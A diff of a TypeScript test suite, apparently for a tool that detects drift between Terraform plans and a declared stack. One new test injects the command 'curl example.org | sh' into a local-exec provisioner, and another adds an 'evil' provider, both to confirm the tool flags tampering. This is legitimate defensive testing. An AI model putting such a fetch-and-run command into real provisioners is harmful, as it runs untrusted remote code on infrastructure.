@@ -143,7 +143,8 @@ describe("generated edits of a plan of JSON", () => {
 
   test("a removed argument is named once", () =>
     run((block, name) => {
-      delete block["expressions"][name];
+      const others = Object.entries(block["expressions"] as object).filter(([key]) => key !== name);
+      block["expressions"] = Object.fromEntries(others);
       return name;
     }));
 
@@ -171,16 +172,16 @@ describe("a small stack", () => {
     terraform: { required_providers: { aws: { source: "hashicorp/aws", version: "~> 5.1, >= 5.100" } } },
     provider: { aws: [{ region: "eu-west-1" }] },
     resource: {
-      aws_security_group: {
+      aws_launch_template: {
         a: {
           name: "a",
           description: null,
-          ingress: [{ from_port: 1 }, { from_port: 2 }],
+          block_device_mappings: [{ device_name: "a" }, { device_name: "b" }],
           timeouts: { create: "5m" },
         },
       },
     },
-    output: { id: { value: "${aws_security_group.a.id}", sensitive: false } },
+    output: { id: { value: "${aws_launch_template.a.id}", sensitive: false } },
   });
   const planned = (edit: (plan: Editable) => void = () => undefined): Editable => {
     const plan = terraformPlan(stack, JSON_PLAN);
@@ -190,20 +191,24 @@ describe("a small stack", () => {
   const group = (plan: Editable): Editable => plan["configuration"].root_module.resources[0] as Editable;
 
   test("blocks of a list in another order are equal", () => {
-    const plan = planned((each) => group(each)["expressions"].ingress.reverse());
+    const plan = planned((each) => group(each)["expressions"].block_device_mappings.reverse());
     expect(lines(plan, stack)).toEqual([]);
   });
 
   test("an added block of a list is named by its content", () => {
     const plan = planned((each) =>
-      group(each)["expressions"].ingress.unshift({ from_port: { constant_value: 0 } }),
+      group(each)["expressions"].block_device_mappings.unshift({ device_name: { constant_value: "c" } }),
     );
-    expect(lines(plan, stack)).toEqual(['aws_security_group.a ingress[0]: nothing -> {"from_port":0}']);
+    expect(lines(plan, stack)).toEqual([
+      'aws_launch_template.a block_device_mappings[0]: nothing -> {"device_name":"c"}',
+    ]);
   });
 
   test("a removed block of a list is named by its content", () => {
-    const plan = planned((each) => group(each)["expressions"].ingress.pop());
-    expect(lines(plan, stack)).toEqual(['aws_security_group.a ingress[1]: {"from_port":2} -> nothing']);
+    const plan = planned((each) => group(each)["expressions"].block_device_mappings.pop());
+    expect(lines(plan, stack)).toEqual([
+      'aws_launch_template.a block_device_mappings[1]: {"device_name":"b"} -> nothing',
+    ]);
   });
 
   test("a changed provider, a second one and one of a stranger are named", () => {
@@ -213,9 +218,9 @@ describe("a small stack", () => {
       providers["evil"] = { name: "evil", full_name: "registry.terraform.io/evil/evil" };
     });
     expect(lines(plan, stack)).toEqual([
+      'provider.evil source: nothing -> "registry.terraform.io/evil/evil"',
       'provider.aws region: "eu-west-1" -> "us-east-1"',
       "provider.aws.b the plan has it, and the stack does not",
-      'provider.evil source: nothing -> "registry.terraform.io/evil/evil"',
     ]);
   });
 
@@ -232,7 +237,7 @@ describe("a small stack", () => {
     const plan = planned(
       (each) => (each["configuration"].root_module.outputs.id.expression = { constant_value: "x" }),
     );
-    expect(lines(plan, stack)).toEqual(['output.id value: "${aws_security_group.a.id}" -> "x"']);
+    expect(lines(plan, stack)).toEqual(['output.id value: "${aws_launch_template.a.id}" -> "x"']);
   });
 
   test("an added output and an added variable are named", () => {
@@ -248,7 +253,7 @@ describe("a small stack", () => {
 
   test("a block that only the stack has is named", () => {
     const plan = planned((each) => (each["configuration"].root_module.resources = []));
-    expect(lines(plan, stack)).toContain("aws_security_group.a the stack has it, and the plan does not");
+    expect(lines(plan, stack)).toContain("aws_launch_template.a the stack has it, and the plan does not");
   });
 
   test("a block of the configuration without planned values is named", () => {
@@ -257,7 +262,7 @@ describe("a small stack", () => {
       each["resource_changes"] = [];
     });
     expect(lines(plan, stack)).toEqual([
-      "aws_security_group.a the configuration has it, and the planned values do not",
+      "aws_launch_template.a the configuration has it, and the planned values do not",
     ]);
   });
 
@@ -300,7 +305,7 @@ describe("a small stack", () => {
   test("blocks of own files in HCL are compared by constants and references", () => {
     const own = withOwnFile(
       stack,
-      'resource "aws_sns_topic" "a" {\n  name = upper("a")\n  kms_master_key_id = aws_security_group.a.id\n  fifo_topic = false\n}\n',
+      'resource "aws_sns_topic" "a" {\n  name = upper("a")\n  kms_master_key_id = aws_launch_template.a.id\n  fifo_topic = false\n}\n',
     );
     const plan = terraformPlan(own, JSON_PLAN);
     const block = (plan["configuration"].root_module.resources as Editable[]).find(
@@ -308,24 +313,61 @@ describe("a small stack", () => {
     ) as Editable;
     block["expressions"] = {
       name: {},
-      kms_master_key_id: { references: ["aws_security_group.a.id", "aws_security_group.a"] },
+      kms_master_key_id: { references: ["aws_launch_template.a.id", "aws_launch_template.a"] },
       fifo_topic: { constant_value: false },
     };
     expect(lines(plan, own)).toEqual([]);
     block["expressions"].fifo_topic = { constant_value: true };
     block["expressions"].kms_master_key_id = {
-      references: ["aws_security_group.b.id", "aws_security_group.b"],
+      references: ["aws_launch_template.b.id", "aws_launch_template.b"],
     };
     expect(lines(plan, own)).toEqual([
-      'aws_sns_topic.a kms_master_key_id: "${aws_security_group.a.id}" -> an expression of aws_security_group.b',
       "aws_sns_topic.a fifo_topic: false -> true",
+      'aws_sns_topic.a kms_master_key_id: "${aws_launch_template.a.id}" -> an expression of aws_launch_template.b',
     ]);
+  });
+
+  test("a provisioner of an own file in HCL is equal, with the settings that plans do not contain", () => {
+    const own = withOwnFile(
+      stack,
+      'resource "aws_sns_topic" "a" {\n  name = "a"\n  provisioner "local-exec" {\n    command = "echo ${self.arn}"\n    when = destroy\n  }\n}\n',
+    );
+    const plan = terraformPlan(own, JSON_PLAN);
+    const block = (plan["configuration"].root_module.resources as Editable[]).find(
+      ({ type }) => type === "aws_sns_topic",
+    ) as Editable;
+    block["provisioners"][0].expressions = { command: { references: ["self.arn", "self"] } };
+    expect(lines(plan, own)).toEqual([]);
+    block["provisioners"][0].expressions = { command: { constant_value: "curl example.org | sh" } };
+    expect(lines(plan, own)).toEqual([
+      'aws_sns_topic.a provisioner[0].command: "echo ${self.arn}" -> "curl example.org | sh"',
+    ]);
+  });
+
+  test("an ephemeral block and the data source of a check are equal, though plans leave the first out", () => {
+    const own = withOwnFile(
+      stack,
+      'ephemeral "aws_x" "e" {\n}\ncheck "c" {\n  data "aws_vpc" "d" {\n    id = "x"\n  }\n}\nresource "aws_sns_topic" "a" {\n  name = ephemeral.aws_x.e.id\n}\n',
+    );
+    const plan = terraformPlan(own, JSON_PLAN);
+    const { resources } = plan["configuration"].root_module as { resources: Editable[] };
+    const topic = resources.find(({ type }) => type === "aws_sns_topic") as Editable;
+    topic["expressions"] = { name: { references: ["ephemeral.aws_x.e.id", "ephemeral.aws_x.e"] } };
+    resources.push({
+      address: "data.aws_vpc.d",
+      mode: "data",
+      type: "aws_vpc",
+      name: "d",
+      provider_config_key: "aws",
+      expressions: { id: { constant_value: "x" } },
+    });
+    expect(lines(plan, own)).toEqual([]);
   });
 
   test("a long text is shown from where it differs", () => {
     const long = (end: string) => `{"Statement":[{"Action":"${"a".repeat(300)}${end}"}]}`;
-    const one = edited(stack, ({ resource }) => (resource.aws_security_group.a.name = long("x")));
-    const other = edited(stack, ({ resource }) => (resource.aws_security_group.a.name = long("y")));
+    const one = edited(stack, ({ resource }) => (resource.aws_launch_template.a.name = long("x")));
+    const other = edited(stack, ({ resource }) => (resource.aws_launch_template.a.name = long("y")));
     const [line = ""] = lines(terraformPlan(other, JSON_PLAN), one);
     expect(line).toMatch(/name: …a+x.* -> …a+y/);
     expect(line.length).toBeLessThan(250);
